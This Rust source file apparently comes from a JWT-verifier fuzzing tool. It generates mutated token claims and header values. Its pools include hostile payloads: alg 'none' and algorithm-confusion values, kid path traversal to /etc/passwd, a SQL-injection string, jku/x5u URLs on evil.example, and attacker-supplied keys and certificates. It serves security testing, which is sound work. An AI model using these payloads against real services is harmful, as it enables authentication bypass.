//! Header-member and claim edits, and the pools of values they draw from: times around every
//! boundary and in odd spellings, look-alike issuers and audiences, hostile `alg`/`kid`/`jku`
//! values, and the base value re-typed.

use super::edit::{Edit, Json, MemberOp, Part};
use super::generate::Generator;
use super::json_literal::{chop, escaped_first, nested, q};
use super::render::public_jwk_text;
use crate::dangerous::forge::rng::Rng;
use serde_json::Value;

impl Generator {
    pub(super) fn claim(&self, rng: &mut Rng) -> Edit {
        let existing: Vec<&String> = self.m.base_claims.keys().collect();
        let name: String = match rng.weighted(&[20, 10, 8, 14, 14, 8, 2, 2, 4, 4]) {
            0 => "exp".into(),
            1 => "iat".into(),
            2 => "nbf".into(),
            3 => "iss".into(),
            4 => "aud".into(),
            5 => "sub".into(),
            6 => "scope".into(),
            7 => "jti".into(),
            8 if !existing.is_empty() => (*rng.pick(&existing)).clone(),
            _ => (*rng.pick(&[
                "authprobe-x",
                "role",
                "admin",
                "__proto__",
                "",
                "email_verified",
            ]))
            .to_owned(),
        };
        let op = match rng.weighted(&[70, 12, 8, 10]) {
            0 => MemberOp::Set(self.claim_value(rng, &name)),
            1 => MemberOp::Remove,
            2 => MemberOp::Duplicate(self.claim_value(rng, &name)),
            _ => MemberOp::Set(self.retyped(rng, Part::Payload, &name)),
        };
        Edit::Member {
            part: Part::Payload,
            name,
            op,
        }
    }

    fn claim_value(&self, rng: &mut Rng, name: &str) -> Json {
        use Json::*;
        let time = |rng: &mut Rng, pool: &[(u32, Json)]| {
            if rng.chance(80) {
                rng.weighted_pick(pool).clone()
            } else {
                odd_number(rng)
            }
        };
        match name {
            "exp" => time(
                rng,
                &[
                    (6, Rel(900)),
                    (3, Rel(-27)),
                    (6, Rel(-33)),
                    (4, Rel(-60)),
                    (6, Rel(-3600)),
                    (5, Rel(-86_000)),
                    (3, Rel(-86_800)),
                    (2, Rel(-864_000)),
                    (3, Rel(172_800)),
                    (2, Rel(86_400 * 400)),
                    (2, RelFrac(900, ".5")),
                    (2, RelFrac(-33, ".25")),
                    (2, RelString(900)),
                    (2, RelExp(900)),
                    (1, RelString(-3600)),
                ],
            ),
            "iat" => time(
                rng,
                &[
                    (6, Rel(0)),
                    (3, Rel(-60)),
                    (3, Rel(-90_000)),
                    (3, Rel(27)),
                    (6, Rel(33)),
                    (5, Rel(3600)),
                    (4, Rel(86_000)),
                    (2, Rel(90_000)),
                    (2, RelFrac(0, ".5")),
                    (2, RelString(0)),
                    (2, RelExp(0)),
                ],
            ),
            "nbf" => time(
                rng,
                &[
                    (4, Rel(-60)),
                    (2, Rel(0)),
                    (3, Rel(27)),
                    (6, Rel(33)),
                    (5, Rel(3600)),
                    (4, Rel(86_000)),
                    (2, Rel(90_000)),
                    (2, RelFrac(33, ".5")),
                    (2, RelString(3600)),
                    (1, RelExp(-60)),
                ],
            ),
            "iss" => Raw(self.string_variant(rng, &self.m.issuer, true)),
            "aud" => Raw(self.audience_variant(rng)),
            "sub" => Raw(self.string_variant(rng, &self.m.subject, false)),
            "scope" => Raw((*rng.pick(&[
                "\"reports:read\"",
                "\"reports:read admin\"",
                "\"REPORTS:READ\"",
                "[\"reports:read\"]",
                "1",
                "\"\"",
            ]))
            .to_owned()),
            _ => Raw(self.any_value(rng)),
        }
    }

    /// Variants of a string claim (`iss`, `sub`): prefixes, suffixes, case, escapes, arrays,
    /// look-alikes, wrong types.
    fn string_variant(&self, rng: &mut Rng, b: &str, url: bool) -> String {
        let mut pool: Vec<String> = vec![
            q(b),
            q(&format!("{b}/")),
            q(&format!("{b}x")),
            q(&chop(b)),
            q(&b.to_uppercase()),
            q(&format!(" {b}")),
            q(&format!("{b} ")),
            q(&format!("{b}\u{0}")),
            escaped_first(b),
            q(b).replace('/', "\\/"),
            format!("[{}]", q(b)),
            "null".into(),
            "1".into(),
            "\"\"".into(),
            q(&b.replacen('.', "\u{3002}", 1)),
            q(&b.replacen('1', "\u{ff11}", 1)),
            q(&format!("{b}.evil.example")),
            q(&format!("https://evil.example/{b}")),
        ];
        if url {
            pool.push(q(&b.replacen("http://", "https://", 1)));
            pool.push(q(&b.replacen("127.0.0.1", "localhost", 1)));
            pool.push(q(&b.replacen("://", "://user@", 1)));
        } else {
            pool.push(q(&"a".repeat(4000)));
            pool.push(q("admin"));
        }
        rng.pick(&pool).clone()
    }

    fn audience_variant(&self, rng: &mut Rng) -> String {
        let b = self.m.audience.as_str();
        let other = q("https://other.example");
        let pool: Vec<String> = vec![
            q(b),
            format!("[{}]", q(b)),
            format!("[{},{other}]", q(b)),
            format!("[{other},{}]", q(b)),
            format!("[{other}]"),
            other.clone(),
            "[]".into(),
            format!("[{},1]", q(b)),
            format!("[[{}]]", q(b)),
            format!("[{},{}]", q(b), q(b)),
            q(&format!("{b}/")),
            q(&chop(b)),
            q(&b.to_uppercase()),
            q(&format!("{b} {b}")),
            escaped_first(b),
            "null".into(),
            "1".into(),
            "\"\"".into(),
            "{}".into(),
        ];
        rng.pick(&pool).clone()
    }

    fn any_value(&self, rng: &mut Rng) -> String {
        let pick = rng.below(22);
        match pick {
            0 => "1".into(),
            1 => "\"x\"".into(),
            2 => "null".into(),
            3 => "true".into(),
            4 => "{}".into(),
            5 => "[]".into(),
            6..=9 => nested(14 + (pick - 6) as usize),
            10 => q(&"A".repeat(6000)),
            11 => q(&"A".repeat(9000)),
            12 => q(&"A".repeat(13_000)),
            13 => "\"\\ud800\"".into(),
            14 => "\"\\u0000\"".into(),
            15 => q("é"),
            16 => "1e400".into(),
            17 => "\"\\x\"".into(),
            18 => "[1,]".into(),
            19 => "{\"a\":1,\"a\":2}".into(),
            20 => "-0".into(),
            _ => "\"authprobe-marker-9f1c\"".into(),
        }
    }

    /// The base value in another JSON type.
    fn retyped(&self, rng: &mut Rng, part: Part, name: &str) -> Json {
        let base: Option<Value> = match part {
            Part::Header => self.m.base.header().get(name).cloned(),
            _ => self.m.base_claims.get(name).cloned(),
        };
        let Some(v) = base else {
            return Json::Raw(self.any_value(rng));
        };
        let text = v.to_string();
        let options: Vec<String> = match &v {
            Value::String(s) => vec![
                format!("[{text}]"),
                format!("{{\"value\":{text}}}"),
                "null".into(),
                "true".into(),
                s.parse::<f64>()
                    .map(|_| s.clone())
                    .unwrap_or_else(|_| "0".into()),
            ],
            Value::Number(_) => vec![
                q(&text),
                format!("[{text}]"),
                format!("{{\"value\":{text}}}"),
                "null".into(),
                "false".into(),
                format!("{text}.0"),
            ],
            Value::Array(a) => vec![
                a.first()
                    .map(Value::to_string)
                    .unwrap_or_else(|| "null".into()),
                q(&text),
                "{}".into(),
                "null".into(),
            ],
            _ => vec![q(&text), format!("[{text}]"), "null".into(), "1".into()],
        };
        Json::Raw(rng.pick(&options).clone())
    }

    pub(super) fn header(&self, rng: &mut Rng) -> Edit {
        let names: [(u32, &str); 14] = [
            (22, "alg"),
            (18, "kid"),
            (10, "typ"),
            (6, "crit"),
            (6, "jku"),
            (6, "jwk"),
            (3, "x5u"),
            (3, "x5c"),
            (2, "x5t"),
            (3, "b64"),
            (2, "zip"),
            (2, "enc"),
            (3, "cty"),
            (6, "other"),
        ];
        let mut name = (*rng.weighted_pick(&names)).to_owned();
        if name == "other" {
            name = (*rng.pick(&[
                "authprobe-x",
                "__proto__",
                "",
                "epk",
                "apu",
                "url",
                "nonce",
                "iss",
                "exp",
                "x5t#S256",
            ]))
            .to_owned();
        }
        let op = match rng.weighted(&[70, 12, 10, 3, 5]) {
            0 => MemberOp::Set(self.header_value(rng, &name)),
            1 => MemberOp::Remove,
            2 => MemberOp::Duplicate(self.header_value(rng, &name)),
            3 => MemberOp::Prepend(self.header_value(rng, &name)),
            _ => MemberOp::Set(self.retyped(rng, Part::Header, &name)),
        };
        Edit::Member {
            part: Part::Header,
            name,
            op,
        }
    }

    fn header_value(&self, rng: &mut Rng, name: &str) -> Json {
        use Json::*;
        let a = self.m.base_alg.name();
        let k = self.m.base_kid.as_str();
        let raw =
            |items: &[&str]| -> Vec<String> { items.iter().map(|s| (*s).to_owned()).collect() };
        let pool: Vec<String> = match name {
            "alg" => {
                let mut v = vec![
                    q(a),
                    q(&a.to_lowercase()),
                    q(&a.to_uppercase()),
                    q("none"),
                    q("None"),
                    q("NONE"),
                    q("nOnE"),
                    q("HS256"),
                    q("HS384"),
                    q("HS512"),
                    q("RS256"),
                    q("ES256"),
                    q("PS256"),
                    q(if a == "EdDSA" { "ES256K" } else { "EdDSA" }),
                    q("Ed25519"),
                    q(""),
                    q(&format!("{a} ")),
                    escaped_first(a),
                ];
                v.extend(raw(&["null", "1"]));
                v.push(format!("[{}]", q(a)));
                v
            }
            "kid" => vec![
                q(k),
                q(&format!("{k}x")),
                q(&chop(k)),
                q(&k.to_uppercase()),
                q(""),
                q(&format!(" {k}")),
                q(&format!("{k} ")),
                q("../../../../../../dev/null"),
                q("/dev/null"),
                q("../../../../../../etc/passwd"),
                q("' OR '1'='1"),
                q("authprobe-attacker"),
                q(&"k".repeat(2000)),
                escaped_first(k),
                q(&format!("{k}\u{0}")),
                "null".into(),
                "1".into(),
                format!("[{}]", q(k)),
                "{}".into(),
            ],
            "typ" => raw(&[
                "\"JWT\"",
                "\"jwt\"",
                "\"application/jwt\"",
                "\"application/JWT\"",
                "\"at+jwt\"",
                "\"JWS\"",
                "\"\"",
                "\"JWT \"",
                "\"application/\"",
                "\"text/plain\"",
                "null",
                "1",
            ]),
            "cty" => raw(&["\"JWT\"", "\"json\"", "\"application/json\"", "1"]),
            "crit" => raw(&[
                "[]",
                "[\"exp\"]",
                "\"authprobe-ext\"",
                "[\"alg\"]",
                "[1]",
                "[\"authprobe-ext\"]",
                "null",
            ]),
            "jku" => {
                if rng.chance(60) {
                    return Oob("jwks.json");
                }
                raw(&["\"https://evil.example/jwks.json\"", "\"\"", "1"])
            }
            "jwk" => {
                if rng.chance(50) {
                    return SignerJwk;
                }
                let mut v = raw(&["{}", "\"x\""]);
                if let Some(jwk) = &self.m.issuer_jwk {
                    v.push(Value::Object(jwk.clone()).to_string());
                }
                v.push(public_jwk_text(&self.m.attacker.ed25519));
                v
            }
            "x5u" => {
                if rng.chance(60) {
                    return Oob("cert.pem");
                }
                raw(&["\"https://evil.example/cert.pem\""])
            }
            "x5c" => {
                if self.m.attacker_cert_b64.is_some() && rng.chance(40) {
                    return AttackerCertChain;
                }
                raw(&["[]", "[\"AAAA\"]"])
            }
            "x5t" | "x5t#S256" => raw(&["\"AAAA\"", "\"\""]),
            "b64" => raw(&["false", "true"]),
            "zip" => raw(&["\"DEF\""]),
            "enc" => raw(&["\"A128GCM\""]),
            _ => raw(&["true", "1", "\"x\"", "{}", "null"]),
        };
        Raw(rng.pick(&pool).clone())
    }
}

/// Odd NumericDate spellings and types.
fn odd_number(rng: &mut Rng) -> Json {
    let pool = [
        "0",
        "-1",
        "-0",
        "0.0",
        "1e300",
        "1e400",
        "9007199254740991",
        "9007199254740992",
        "9007199254740993",
        "18446744073709551616",
        "1.5",
        "null",
        "true",
        "false",
        "[]",
        "{}",
        "\"\"",
        "\"now\"",
        "[1]",
        "01",
    ];
    Json::Raw((*rng.pick(&pool)).to_owned())
}
